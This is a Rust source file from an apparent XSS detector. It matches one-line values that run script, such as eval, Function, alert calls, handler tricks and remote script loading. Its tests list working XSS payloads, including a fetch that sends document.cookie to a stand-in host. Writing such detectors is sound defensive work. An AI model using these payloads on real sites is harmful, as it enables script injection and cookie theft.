//! Values that are a script as a whole: what runs a text as code, shows that it runs, or loads another script.

use super::{contains, is_word, places, script::tells};

/// Objects of a page that all of its functions are members of.
const GLOBALS: [&[u8]; 8] = [
    b"globalthis.",
    b"frames[0].",
    b"frames.",
    b"top.",
    b"parent.",
    b"self.",
    b"window.",
    b"document.defaultview.",
];

/// What is called to show that a script runs.
const SHOWN: [&[u8]; 4] = [b"alert", b"confirm", b"prompt", b"eval"];

/// Whether a value, in lower case and of one line, runs code. It is short: documentation has more around it.
pub(super) fn runs(lower: &[u8]) -> bool {
    let start = lower.iter().position(|byte| !matches!(byte, 0..=b' ' | b';')).unwrap_or(lower.len());
    let text = lower[start..].trim_ascii_end();
    let text = text.strip_prefix(b"new ").unwrap_or(text);
    // A sentence has spaces, and tells what a script does.
    let sentence = text.len() > 128 || memchr::memchr_iter(b' ', text).nth(3).is_some();
    from_text(text)
        || made_code(text)
        || named(text)
        || behind_number(text)
        || of_page(text)
        || written(text)
        || loads(text)
        || thrown(text)
        || !sentence && (shows(text) || given(text))
}

/// A call that does nothing but show that it runs, or that takes what only the page knows, wherever it stands: `x&&alert(1)`, `(()=>alert(1))()`.
fn shows(text: &[u8]) -> bool {
    SHOWN[..3].iter().any(|name| {
        places(text, name).any(|at| {
            let rest = &text[at + name.len()..];
            let own = match text[..at].strip_suffix(b".") {
                Some(object) => GLOBALS.iter().any(|global| object.ends_with(&global[..global.len() - 1])),
                None => at == 0 || !is_word(text[at - 1]),
            };
            own && is_called(rest) && !rest.starts_with(b"()")
        })
    }) || contains(text, b"${document.")
        || contains(text, b"postmessage(document.")
}

/// What shows that it runs, given to what calls it: `.then(alert)`, `setTimeout(alert,0)`, `onclick=alert`.
fn given(text: &[u8]) -> bool {
    const CALLERS: [&[u8]; 8] = [
        b"queuemicrotask(",
        b"requestidlecallback(",
        b".then(",
        b"settimeout(",
        b"requestanimationframe(",
        b"reflect.apply(",
        b"function.prototype.call.call(",
        b"setinterval(",
    ];
    let names = |rest: &[u8]| {
        SHOWN[..3].iter().any(|name| {
            rest.strip_prefix(*name)
                .is_some_and(|behind| matches!(behind.first(), None | Some(b')' | b',' | b';')))
        })
    };
    CALLERS.iter().any(|caller| places(text, caller).any(|at| names(&text[at + caller.len()..])))
        || contains(text, b"addeventlistener(")
            && SHOWN[..3].iter().any(|name| text.strip_suffix(b")").is_some_and(|text| text.ends_with(name)))
        || places(text, b"=").any(|at| {
            let name = text[..at].iter().rev().take(16).take_while(|byte| byte.is_ascii_alphabetic()).count();
            text[at - name..at].starts_with(b"on") && name > 4 && names(&text[at + 1..])
        })
}

/// A text that is made code: `Function('alert(1)')()`, `setTimeout("f(1)")`.
fn from_text(text: &[u8]) -> bool {
    const MAKES: [&[u8]; 9] = [
        b"function(",
        b"function`",
        b"settimeout(",
        b"setinterval(",
        b"eval(",
        b"eval`",
        b"(0,eval)(",
        b"jquery.globaleval(",
        b"$.globaleval(",
    ];
    MAKES.iter().any(|name| {
        text.strip_prefix(*name).is_some_and(|given| {
            let quoted = name.ends_with(b"`") || matches!(given.first(), Some(b'\'' | b'"' | b'`'));
            quoted && (shown(given) || contains(given, b"document.") || contains(given, b"location"))
        })
    }) || contains(text, b"reflect.construct(function")
        || contains(text, b"symbol.hasinstance]:eval")
}

/// A call that makes code of a text, and nothing else: `eval('x')`, `setTimeout("x",0)`.
fn made_code(text: &[u8]) -> bool {
    const MAKES: [&[u8]; 5] = [b"eval(", b"settimeout(", b"setinterval(", b"function(", b"execscript("];
    let text = text.strip_prefix(b"window.").unwrap_or(text);
    let text = text.trim_ascii_end().strip_suffix(b";").unwrap_or(text);
    text.len() <= 96
        && MAKES.iter().any(|name| {
            text.strip_prefix(*name).is_some_and(|given| {
                let Some((&quote, rest)) =
                    given.split_first().filter(|(quote, _)| matches!(quote, b'\'' | b'"'))
                else {
                    return false;
                };
                let Some(end) = memchr::memchr(quote, rest) else { return false };
                let behind = super::trim_start(&rest[end + 1..]);
                let behind = behind.strip_prefix(b",").map_or(behind, |number| {
                    let number = super::trim_start(number);
                    &number[number.iter().take_while(|byte| byte.is_ascii_digit()).count()..]
                });
                // Libraries ask so for the object that all are members of.
                end > 0 && !rest.starts_with(b"return this") && matches!(behind, b")" | b")()")
            })
        })
}

/// A member of a page's own object that is named by a text, so that nobody finds it: `self["alert"]`, `this['document']`, `top["\x61"]`.
pub(super) fn named(text: &[u8]) -> bool {
    const OBJECTS: [&[u8]; 8] =
        [b"window[", b"self[", b"top[", b"parent[", b"this[", b"frames[", b"globalthis[", b"document["];
    const MEMBERS: [&[u8]; 8] =
        [b"alert", b"confirm", b"prompt", b"eval", b"document", b"location", b"cookie", b"function"];
    text.len() <= 96
        && OBJECTS.iter().any(|object| {
            text.strip_prefix(*object).is_some_and(|name| {
                let Some((&quote, name)) =
                    name.split_first().filter(|(quote, _)| matches!(quote, b'\'' | b'"' | b'`'))
                else {
                    return false;
                };
                let name = &name[..memchr::memchr(quote, name).unwrap_or(name.len())];
                let escaped = memchr::memchr(b'\\', name)
                    .is_some_and(|at| matches!(name.get(at + 1), Some(b'x' | b'u' | b'0'..=b'7')));
                escaped || MEMBERS.contains(&name)
            })
        })
}

/// A number, an operator, and something that shows that it runs: `1;alert('b')`.
fn behind_number(text: &[u8]) -> bool {
    let text = text.strip_prefix(b"-").unwrap_or(text);
    let digits = text.iter().take_while(|byte| byte.is_ascii_digit()).count();
    let rest = &text[digits..];
    let operators = rest
        .iter()
        .take(4)
        .take_while(|byte| {
            matches!(byte, b';' | b',' | b')' | b'-' | b'+' | b'*' | b'|' | b'&' | b'}' | b']')
        })
        .count();
    let call = &rest[operators..];
    let call = GLOBALS.iter().find_map(|global| call.strip_prefix(*global)).unwrap_or(call);
    digits > 0
        && operators > 0
        && SHOWN.iter().any(|name| {
            call.strip_prefix(*name)
                .is_some_and(|given| matches!(given.first(), Some(b'(' | b'`')) && given.len() > 1)
        })
        && !tells(call)
}

/// A page's own function by the object that it is a member of: `globalThis.alert(1)`, `with(document)alert(cookie)`.
fn of_page(text: &[u8]) -> bool {
    let member = GLOBALS.iter().any(|global| {
        text.strip_prefix(*global).is_some_and(|call| {
            SHOWN.iter().any(|name| call.starts_with(name) && is_called(&call[name.len()..])) && !tells(call)
        })
    });
    member || text.starts_with(b"with(document)") && shown(text)
}

/// A part of the page that is given a text, and nothing else: `document.querySelector("p").textContent="b"`.
fn written(text: &[u8]) -> bool {
    const PARTS: [&[u8]; 4] = [b").textcontent=", b").innertext=", b").innerhtml=", b").outerhtml="];
    text.starts_with(b"document.")
        && !text.contains(&b' ')
        && PARTS.iter().any(|part| {
            super::find(text, part).is_some_and(|at| {
                let given = &text[at + part.len()..];
                let given = given.strip_suffix(b";").unwrap_or(given);
                matches!(given, [b'"', .., b'"'] | [b'\'', .., b'\''] | [b'`', .., b'`'])
            })
        })
}

/// A script from elsewhere, or what is asked of another host: `import('data:…')`, `$.getScript('//…')`.
fn loads(text: &[u8]) -> bool {
    let elsewhere = |from: &[u8]| {
        let from =
            from.strip_prefix(b"'").or_else(|| from.strip_prefix(b"\"")).or_else(|| from.strip_prefix(b"`"));
        from.is_some_and(|url| {
            [&b"//"[..], b"http", b"data:", b"\\\\"].iter().any(|start| url.starts_with(start))
        })
    };
    const LOADS: [&[u8]; 13] = [
        b"window.open(",
        b"location.replace(",
        b"location.assign(",
        b"document.location=",
        b"document.location.href=",
        b"import(",
        b"importscripts(",
        b"$.getscript(",
        b"jquery.getscript(",
        b"worker(",
        b"navigator.serviceworker.register(",
        b"top.location=",
        b"parent.location=",
    ];
    let element = contains(text, b"createelement('script')") || contains(text, b"createelement(\"script\")");
    LOADS.iter().any(|name| text.strip_prefix(*name).is_some_and(elsewhere))
        || element
            && (contains(text, b".src='//") || contains(text, b".src=\"//") || contains(text, b".src='http"))
        || contains(text, b"new xmlhttprequest") && contains(text, b".open(") && contains(text, b"'//")
}

/// An error handler that is set, and an error: `var{a:onerror}={a:alert};throw 1`.
fn thrown(text: &[u8]) -> bool {
    contains(text, b"throw") && contains(text, b"onerror") && SHOWN.iter().any(|name| contains(text, name))
}

/// Whether something shows that it runs, with a number, a page's own or nothing in it: `alert(1)`, `alert(document.domain)`.
pub(super) fn shown(text: &[u8]) -> bool {
    SHOWN.iter().any(|name| {
        places(text, name).any(|at| !(at > 0 && is_word(text[at - 1])) && is_called(&text[at + name.len()..]))
    })
}

fn is_called(rest: &[u8]) -> bool {
    let given = match rest {
        [b'(', given @ ..] | [b'?', b'.', b'(', given @ ..] | [b')', b'(', given @ ..] => given,
        [b'`', ..] => return true,
        _ => return false,
    };
    given.first().is_some_and(|byte| byte.is_ascii_digit() || *byte == b')')
        || [&b"document"[..], b"cookie", b"origin", b"location", b"name)", b"atob("]
            .iter()
            .any(|what| given.starts_with(what))
}

#[cfg(test)]
mod tests {
    use super::super::{Class, Detector, Kind, Scratch};

    fn found(value: &str) -> Option<Class> {
        Detector::shared().judge(value, Kind::Value, &mut Scratch::default()).map(|finding| finding.class)
    }

    #[test]
    fn scripts_as_values_are_told_from_what_documents_and_programs_say() {
        for attack in [
            "Function('alert(1)')()",
            "setTimeout('alert(document.domain)')",
            "Reflect.construct(Function,['alert(1)'])()",
            "globalThis.alert(1)",
            "frames[0].alert(1)",
            "with(document)alert(cookie)",
            "import('data:text/javascript,alert(1)')",
            "$.getScript('//a.example')",
            "jQuery.globalEval('alert(1)')",
            "var{a:onerror}={a:alert};throw 1",
            "'a'instanceof{[Symbol.hasInstance]:eval}",
            "x=new XMLHttpRequest;x.open('GET','//a.example');x.send()",
            "x:expression(alert(1))",
            "data:application/javascript,alert(1)",
            "x&&alert(1)",
            "${alert(1)}",
            "(()=>alert(1))()",
            "Promise.resolve(1).then(alert)",
            "addEventListener('load',alert)",
            "window.onload=alert",
            "eval('alert(1)')",
            "(0,eval)('alert(1)')",
            "top.location='//a.example'",
            "new Worker('data:,alert(1)')",
            "s=document.createElement('script');s.src='//a.example'",
            "fetch(`//a.example/${document.cookie}`)",
            "<x v-on:click=\"alert(1)\">",
            "<x @click=\"alert(document.domain)\">",
            "<div x-init=\"alert(1)\">",
        ] {
            assert_eq!(found(attack), Some(Class::Xss), "{attack}");
        }
        for benign in [
            "Function('return this')()",
            "setTimeout(done, 10)",
            "How do I alert() in JavaScript?",
            "send(alert)",
            "onclick=alerts",
            "call alert(1) to show that the handler was called",
            "dialog.alert(1)",
            "document.cookie",
            "window.alert('Please save your changes.')",
            "import('./a.js')",
            "throw an error in onerror",
            "type:expression(a)",
            "data:application/json,{}",
            "<x @click=\"open = true\">",
            "<x @click=\"alert('Please save your changes.')\">",
            "top.alerts(1)",
        ] {
            assert_eq!(found(benign), None, "{benign}");
        }
    }
}
